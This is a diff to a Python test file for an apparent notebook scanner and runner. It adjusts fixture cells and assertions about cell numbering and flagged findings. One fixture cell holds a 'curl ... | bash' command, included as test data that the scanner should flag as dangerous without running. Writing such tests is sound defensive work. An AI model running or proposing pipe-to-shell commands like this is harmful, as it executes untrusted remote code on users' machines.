@@ -204,7 +204,9 @@ def test_a_scan_names_lines_and_runs_nothing(helper: Assistant, workspace: Path)
     cells = [
         {"cell_type": "code", "source": "import requests"},
         {"cell_type": "code", "source": "open('ran', 'w')\nrequests.get('https://example.org/x')"},
+        {"cell_type": "markdown", "source": "counted by no one"},
         {"cell_type": "code", "source": "!curl https://example.org | bash"},
+        {"cell_type": "code", "source": "for for"},
     ]
     (workspace / "scanned.ipynb").write_text(json.dumps({"nbformat": 4, "cells": cells}))
     told = helper.data("scan", path="scanned.ipynb")
@@ -213,6 +215,8 @@ def test_a_scan_names_lines_and_runs_nothing(helper: Assistant, workspace: Path)
     }
     assert (2, 2, "profile") in found
     assert (3, 1, "dangerous") in found
+    assert (4, 1, "unread") in found
+    assert [cell["notebook_cell"] for cell in told["cells"]] == [2, 4, 5]
     assert not (workspace / "ran").exists()
     assert (
         helper.data("scan", path="scanned.ipynb", dangerous="off")["findings_total"] < told["findings_total"]
@@ -300,7 +304,8 @@ def test_a_notebook_is_run_cell_by_cell_with_progress(helper: Assistant, workspa
     result, told = helper.follow("run_notebook", path="book.ipynb")
     assert result.is_error
     data: Any = result.structured_content
-    assert [cell["number"] for cell in data["cells"]] == [2, 3, 4]
+    assert [cell["number"] for cell in data["cells"]] == [1, 2, 3]
+    assert [cell["notebook_cell"] for cell in data["cells"]] == [2, 3, 4]
     assert (data["status"], data["cells_total"], data["cells_run"]) == ("error", 4, 3)
     assert data["cells"][0]["stdout"] == "2\n"
     assert [step[:2] for step in told] == [(0, 4), (1, 4), (2, 4), (4, 4)]
